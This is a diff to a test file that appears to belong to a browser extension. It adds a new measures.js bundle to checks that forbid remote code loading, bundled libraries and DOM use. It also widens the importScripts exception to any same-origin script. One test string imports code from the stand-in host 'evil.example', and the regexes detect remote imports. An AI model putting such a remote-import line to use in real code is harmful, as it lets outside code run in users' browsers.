@@ -24,8 +24,8 @@ const CODE_FROM_TEXT = [
 const CODE_FROM_ELSEWHERE = [
   /\bimport\s*\(\s*["'`](?:https?:)?\/\//,
   /\bfrom\s*["'`](?:https?:)?\/\//,
-  // One script of our own is loaded by its name: docs/decisions/0010.
-  /\bimportScripts\??\.?\s*\((?!["'`]\/trackers\.js["'`]\))/,
+  // Scripts of our own are loaded by their names: docs/decisions/0010.
+  /\bimportScripts\??\.?\s*\((?!["'`]\/[a-z]+\.js["'`]\))/,
   /<(?:script|link|img|iframe)\b[^>]*(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i,
   /@import\b[^;]*(?:https?:)?\/\//,
   /url\(\s*["']?(?:https?:)?\/\//,
@@ -100,6 +100,7 @@ describe.each(BUILDS)('%s', (build) => {
       expect.arrayContaining([
         'background.js',
         'trackers.js',
+        'measures.js',
         'content-scripts/jira.js',
         'jira-fields.js',
         'panel.js',
@@ -142,6 +143,9 @@ describe.each(BUILDS)('%s', (build) => {
     ['trackers.js', 'zod'],
     ['trackers.js', 'idb'],
     ['trackers.js', 'polyfill'],
+    ['measures.js', 'zod'],
+    ['measures.js', 'idb'],
+    ['measures.js', 'polyfill'],
   ] as const)('%s has no %s', (path, library) => {
     expect(text(path)).not.toContain(MARKS[library]);
   });
@@ -159,7 +163,7 @@ describe.each(BUILDS)('%s', (build) => {
     );
   });
 
-  test.each(['background.js', 'trackers.js'])('%s has no DOM code', (path) => {
+  test.each(['background.js', 'trackers.js', 'measures.js'])('%s has no DOM code', (path) => {
     expect(domUses(text(path))).toEqual([]);
   });
 
@@ -176,7 +180,7 @@ test('the checks can fail', () => {
   const bad = 'let a=Function;setTimeout("x");eval ("1");import("https://evil.example/x.js")';
   expect(CODE_FROM_TEXT.filter((pattern) => pattern.test(bad))).toHaveLength(3);
   expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test(bad))).toBe(true);
-  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('importScripts(`/other.js`)'))).toBe(true);
+  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('importScripts(`//other.example/a.js`)'))).toBe(true);
   expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('a.importScripts?.(`/trackers.js`)'))).toBe(
     false,
   );
